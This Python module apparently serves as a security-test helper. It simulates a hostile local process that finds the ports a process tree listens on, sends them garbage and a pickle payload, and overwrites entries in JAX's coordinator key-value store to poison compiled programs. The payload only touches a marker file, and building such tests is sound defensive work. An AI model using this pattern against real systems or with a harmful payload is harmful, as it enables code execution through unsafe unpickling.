"""Someone on the same machine who means no good: talks to every port that a tree of processes
opens, and writes to the key-value store of JAX's coordinator, with a gRPC client that knows nothing
but its port."""

from __future__ import annotations

import contextlib
import os
import pickle
import re
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import grpc

SERVICE = "/xla.coordination.CoordinationService"
TELLS = re.compile(r"wrong service incarnation: .* currently (\d+)")  # who asks without is told it
GARBAGE = [b"", b"[]", b"GET / HTTP/1.1\r\n\r\n", b"\xff" * 2**16]
LOOK_S = 0.01  # between looks at the store: what is claimed there is compiled in a moment
PORTS_S = 0.1  # between looks at the ports, each of which reads much of /proc


class Payload:
    """Whoever unpickles it creates a file."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._marker,)


class Stranger:
    """Attacks until it is stopped. `talked` are the addresses it talked to, `written` the keys that
    it wrote."""

    def __init__(self, root: int, marker: Path) -> None:
        self.payload = pickle.dumps(Payload(marker))
        self.talked: set[tuple[str, int]] = set()
        self.written: set[str] = set()
        self._root = root
        self._over = threading.Event()
        self._open: list[socket.socket] = []
        self._threads = [threading.Thread(target=self._attack, daemon=True)]

    def __enter__(self) -> Stranger:
        self._threads[0].start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        for thread in self._threads:
            thread.join(10)
        for connected in self._open:
            connected.close()

    def _attack(self) -> None:
        while not self._over.wait(PORTS_S):
            for address in listening(tree(self._root)) - self.talked:
                self.talked.add(address)
                for target in (self._talk, self._overwrite):
                    thread = threading.Thread(target=target, args=(address,), daemon=True)
                    self._threads.append(thread)
                    thread.start()

    def _talk(self, address: tuple[str, int]) -> None:
        for data in [*GARBAGE, self.payload]:
            with contextlib.suppress(OSError):  # it is gone, or hung up
                connected = socket.create_connection(_near(address), timeout=1)
                self._open.append(connected)  # and says no more
                connected.sendall(data)

    def _overwrite(self, address: tuple[str, int]) -> None:
        """Puts the payload in the place of every program that someone has begun to compile."""
        options = [("grpc.enable_http_proxy", 0)]
        with grpc.insecure_channel("{}:{}".format(*_near(address)), options=options) as channel:
            which = 0
            while not self._over.wait(LOOK_S):
                try:
                    self._write(channel, which)
                except grpc.RpcError as error:  # no coordinator, or not any more, or it tells
                    told = TELLS.search(error.details() or "")
                    which = int(told[1]) if told else which

    def _write(self, channel: grpc.Channel, which: int) -> None:
        ask: Callable[..., bytes] = channel.unary_unary(f"{SERVICE}/GetKeyValueDir")
        insert: Callable[..., bytes] = channel.unary_unary(f"{SERVICE}/InsertKeyValue")
        known = field(1, bytes([3 << 3 | 1]) + struct.pack("<Q", which))
        found = ask(known + field(2, b"cfp"), timeout=1)
        for name in set(re.findall(rb"cfp/(?:claimed|compiled)/([\w/]+)", found)):
            place = b"cfp/compiled/" + name
            entry = field(2, field(1, place) + field(2, self.payload))
            insert(known + entry + bytes([3 << 3, 1]), timeout=1)  # 1: and may overwrite
            self.written.add(place.decode())


def field(number: int, data: bytes) -> bytes:
    """A field of a protocol buffer."""
    length, size = bytearray(), len(data)
    while size >= 0x80:
        length.append(size & 0x7F | 0x80)
        size >>= 7
    return bytes([number << 3 | 2, *length, size]) + data


def tree(root: int) -> set[int]:
    """A process and all that it started."""
    parents: dict[int, int] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parents[int(path.parent.name)] = int(path.read_text().rpartition(")")[2].split()[1])
    found = {root}
    while more := {pid for pid, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def listening(pids: set[int]) -> set[tuple[str, int]]:
    """The addresses that processes listen on."""
    places: dict[str, tuple[str, int]] = {}
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *rest = line.split()
            if state == "0A":
                places[rest[5]] = _address(local)
    return {places[inode] for pid in pids for inode in _sockets(pid) if inode in places}


def _near(address: tuple[str, int]) -> tuple[str, int]:
    """How to reach it from here."""
    return ("127.0.0.1" if address[0] in ("::", "0.0.0.0") else address[0]), address[1]


def _sockets(pid: int) -> Iterator[str]:
    with contextlib.suppress(OSError):
        for entry in os.listdir(f"/proc/{pid}/fd"):
            with contextlib.suppress(OSError):
                yield os.readlink(f"/proc/{pid}/fd/{entry}").removeprefix("socket:[")[:-1]


def _address(text: str) -> tuple[str, int]:
    """Writes an address as /proc/net/tcp does: words of four bytes, each in this machine's
    order."""
    host, port = text.split(":")
    words = [bytes.fromhex(host[i : i + 8])[::-1] for i in range(0, len(host), 8)]
    packed = b"".join(words)
    family = socket.AF_INET if len(packed) == 4 else socket.AF_INET6
    return socket.inet_ntop(family, packed).removeprefix("::ffff:"), int(port, 16)
